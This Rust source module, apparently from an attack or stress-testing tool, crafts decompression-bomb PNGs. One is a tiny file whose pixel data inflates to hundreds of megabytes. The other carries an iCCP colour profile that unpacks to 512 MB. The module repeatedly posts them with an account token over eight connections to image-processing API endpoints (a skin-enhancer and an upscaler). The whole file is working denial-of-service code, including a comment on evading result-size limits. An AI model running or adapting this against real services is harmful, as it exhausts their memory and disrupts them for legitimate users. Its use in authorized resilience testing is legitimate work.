//! Small files that decode to large ones.

use std::io::{Read, Write};
use std::rc::Rc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::write::ZlibEncoder;
use flate2::{Compression, Crc};
use serde_json::json;

use super::{AttackTarget, flood};
use crate::http::request;
use crate::workload::UPSCALER;

const SKIN: &str = "/proxy/imagevendor/v1/ai/skin-enhancer/creative";
const CONNECTIONS: usize = 8;
/// Sides of the large picture in pixels.
const SIDE: u32 = 10_000;
/// Bytes per pixel: red, green, blue and alpha with 16 bits each.
const PIXEL_BYTES: u64 = 8;
/// Bytes of the colour profile.
const PROFILE_BYTES: u64 = 512 << 20;

/// Bit depth and colour type of a header: 16 bits with alpha, and 8 bits without.
const DEEP: [u8; 2] = [16, 6];
const PLAIN: [u8; 2] = [8, 2];

/// Repeatedly submits a small file with a large picture.
pub fn pixels(target: &Rc<AttackTarget>) {
    let row = 1 + u64::from(SIDE) * PIXEL_BYTES;
    // The result of this job has the size of its input, so that no limit of results rejects it before decoding.
    submit(target, SKIN, &png(SIDE, DEEP, None, &deflated_zeros(row * u64::from(SIDE))));
}

/// Repeatedly submits a small picture with a colour profile that unpacks to [`PROFILE_BYTES`].
pub fn profiles(target: &Rc<AttackTarget>) {
    let profile = [&b"bomb\0\0"[..], &deflated_zeros(PROFILE_BYTES)].concat();
    submit(target, UPSCALER, &png(8, PLAIN, Some(&profile), &deflated_zeros(8 * (1 + 8 * 3))));
}

/// Submits the picture repeatedly.
fn submit(target: &Rc<AttackTarget>, path: &str, file: &[u8]) {
    let body = json!({"image": STANDARD.encode(file)}).to_string();
    let bytes: Rc<[u8]> = request("POST", path, &target.account.token, &body).into();
    flood(target, CONNECTIONS, move |_| bytes.clone());
}

/// Returns a PNG file with the compressed `pixels`. `profile` is the content of its chunk `iCCP`.
fn png(side: u32, [depth, colours]: [u8; 2], profile: Option<&[u8]>, pixels: &[u8]) -> Vec<u8> {
    let head = [&side.to_be_bytes()[..], &side.to_be_bytes(), &[depth, colours, 0, 0, 0]].concat();
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    file.extend(chunk(*b"IHDR", &head));
    file.extend(profile.map(|profile| chunk(*b"iCCP", profile)).unwrap_or_default());
    file.extend(chunk(*b"IDAT", pixels));
    file.extend(chunk(*b"IEND", &[]));
    file
}

/// Returns a PNG chunk with its checksum.
fn chunk(name: [u8; 4], content: &[u8]) -> Vec<u8> {
    let tagged = [&name, content].concat();
    let mut crc = Crc::new();
    crc.update(&tagged);
    let length = u32::try_from(content.len()).expect("a small chunk");
    [&length.to_be_bytes()[..], &tagged, &crc.sum().to_be_bytes()].concat()
}

/// Returns `count` zero bytes, compressed by zlib.
fn deflated_zeros(count: u64) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    std::io::copy(&mut std::io::repeat(0).take(count), &mut encoder).expect("writing to memory succeeds");
    encoder.flush().expect("writing to memory succeeds");
    encoder.finish().expect("writing to memory succeeds")
}
